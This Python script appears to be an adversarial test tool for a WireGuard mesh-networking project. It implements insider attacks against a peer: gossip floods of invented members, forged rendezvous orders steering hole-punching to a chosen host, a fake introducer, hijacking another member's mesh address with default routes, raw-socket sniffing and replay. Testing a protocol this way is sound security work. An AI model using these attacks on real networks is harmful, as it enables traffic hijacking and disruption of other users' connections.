"""usage: attacks.py SECRET_FILE TARGET ATTACK [ARGUMENT…]: what a member of the mesh may try against another. Prints the number sent;
`introduce` that of the orders the target had asked for.

contacts COUNT HOST     greetings that mention COUNT invented peers, all at HOST
crowd COUNT HOST        COUNT invented members greet, each with its WireGuard and eight candidates at HOST
start COUNT KEY HOST    COUNT orders to punch towards KEY, with candidates at HOST
introduce SECONDS COUNT HOST
                        offers to introduce COUNT invented members, and leads whoever asks for them to HOST
address KEY MESH_IP     a member of its own claims KEY's mesh address, and the whole Internet behind itself
record FILE SECONDS     (in the target's own namespace) writes what comes in at the control port to FILE
replay FILE             sends all of FILE again, also under other types
"""

import base64
import json
import os
import random
import socket
import struct
import sys
import time

from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "goPeer"))

from derivation import Mesh, parse_secret  # noqa: E402
from envelope import ANNOUNCEMENT, KNOWN_PEER, PROTOCOL, Rejected, open_datagram, ordered, seal  # noqa: E402
from rendezvous import pair_id  # noqa: E402

# Below the limit of a source, so that all of them are looked into.
PER_SECOND = 8
ETH_P_IP = 0x0800


def invented() -> str:
    return base64.b64encode(os.urandom(32)).decode()


class Attacker:
    def __init__(self, secret_file: str, target: str) -> None:
        self.mesh = Mesh.of(parse_secret(Path(secret_file).read_text()))
        self.target = target
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sent = 0

    def send(self, datagram: bytes, pause: float = 1 / PER_SECOND) -> None:
        self.socket.sendto(datagram, (self.target, self.mesh.port))
        self.sent += 1
        time.sleep(pause)

    def say(self, kind: str, payload: dict) -> None:
        self.send(seal(self.mesh.gossip_key, kind, {**payload, "timestamp": int(time.time())}))

    def greet(self, key: str, extra: dict) -> None:
        fields = {"protocol": PROTOCOL, "wg_pubkey": key, "timestamp": 1, "mesh_ip": self.mesh.ipv4(key)}
        own = {name: value for name, value in extra.items() if name == "candidates"}
        known = {name: value for name, value in extra.items() if name != "candidates"}
        self.say("HELLO", {**ordered(fields | known, ANNOUNCEMENT), **own})

    def contacts(self, count: str, host: str) -> None:
        me, left = invented(), int(count)
        while left > 0:
            some = min(left, 100)
            left -= some
            peers = []
            for _ in range(some):
                key = invented()
                at = f"{host}:{1024 + left % 60000}"
                peers.append(ordered({"wg_pubkey": key, "mesh_ip": self.mesh.ipv4(key), "wg_endpoint": at}, KNOWN_PEER))
            self.greet(me, {"wg_endpoint": "0.0.0.0:51820", "known_peers": peers})

    def crowd(self, count: str, host: str) -> None:
        for number in range(int(count)):
            places = [f"{host}:{2000 + 8 * number + place}" for place in range(8)]
            self.greet(invented(), {"wg_endpoint": places[0], "candidates": places, "nat_type": "cone"})

    def start(self, count: str, key: str, host: str, own_key: str) -> None:
        for number in range(int(count)):
            peer = key if number % 2 else invented()
            self.say("RENDEZVOUS_START", {
                "protocol": PROTOCOL, "timestamp": 1, "pair_id": pair_id(own_key, peer), "peer_pubkey": peer,
                "peer_candidates": [f"{host}:{3000 + place}" for place in range(50)],
                "start_at_unix_ms": int(time.time() * 1000) + 100,
            })

    def introduce(self, seconds: str, count: str, host: str) -> None:
        me, keys = invented(), [invented() for _ in range(int(count))]
        peers = [ordered({"wg_pubkey": key, "mesh_ip": self.mesh.ipv4(key)}, KNOWN_PEER) for key in keys]
        about_me = {"introducer": True, "wg_endpoint": "0.0.0.0:51820", "known_peers": peers}
        self.socket.settimeout(0.1)
        asked, orders, greet_at, end = set(), 0, 0.0, time.time() + float(seconds)
        while time.time() < end:
            if time.time() >= greet_at:
                greet_at = time.time() + 5
                self.greet(me, about_me)
            try:
                kind, payload, _ = open_datagram(self.mesh.gossip_key, self.socket.recv(65536), time.time())
            except (TimeoutError, Rejected):
                continue
            if kind == "HELLO":
                fields = {"protocol": PROTOCOL, "wg_pubkey": me, "timestamp": 1, "mesh_ip": self.mesh.ipv4(me)}
                self.say("REPLY", ordered(fields | about_me, ANNOUNCEMENT))
            elif kind == "RENDEZVOUS_OFFER":
                asked.add((payload["from_pubkey"], payload["target_pubkey"]))
            for asking, peer in random.sample(sorted(asked), min(3, len(asked))):
                orders += 1
                self.say("RENDEZVOUS_START", {
                    "protocol": PROTOCOL, "timestamp": 1, "pair_id": pair_id(asking, peer), "peer_pubkey": peer,
                    "peer_candidates": [f"{host}:{3000 + place}" for place in range(50)],
                    "wg_candidates": [f"{host}:{4000 + place}" for place in range(8)], "nat_type": "symmetric",
                    "start_at_unix_ms": 0,
                })
        self.sent = orders

    def address(self, key: str, mesh_ip: str) -> None:
        me = invented()
        networks = ["0.0.0.0/0", "::/0", f"{mesh_ip}/32", "0.0.0.0/1", "128.0.0.0/1"]
        for _ in range(10):
            self.greet(me, {"mesh_ip": mesh_ip, "wg_endpoint": "0.0.0.0:51820", "routable_networks": networks})

    def record(self, file: str, seconds: str) -> None:
        sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        sniffer.settimeout(0.2)
        end, found = time.time() + float(seconds), []
        print("recording", flush=True)
        while time.time() < end:
            try:
                packet, (_, _, kind, _, _) = sniffer.recvfrom(65536)
            except TimeoutError:
                continue
            udp = packet[(packet[0] & 15) * 4:]
            if kind != socket.PACKET_HOST or packet[9] != 17 or struct.unpack("!H", udp[2:4])[0] != self.mesh.port:
                continue
            if udp[8:9] == b"{":
                found.append(udp[8:].decode())
        Path(file).write_text(json.dumps(found))
        self.sent = len(found)

    def replay(self, file: str) -> None:
        for text in json.loads(Path(file).read_text()):
            self.send(text.encode())
            for kind in ("HELLO", "REPLY", "ANNOUNCE", "GOODBYE", "RENDEZVOUS_START"):
                self.send(json.dumps({**json.loads(text), "type": kind}).encode())


def main() -> None:
    secret_file, target, attack, *rest = sys.argv[1:]
    attacker = Attacker(secret_file, target)
    getattr(attacker, attack)(*rest)
    print(attacker.sent)


main()
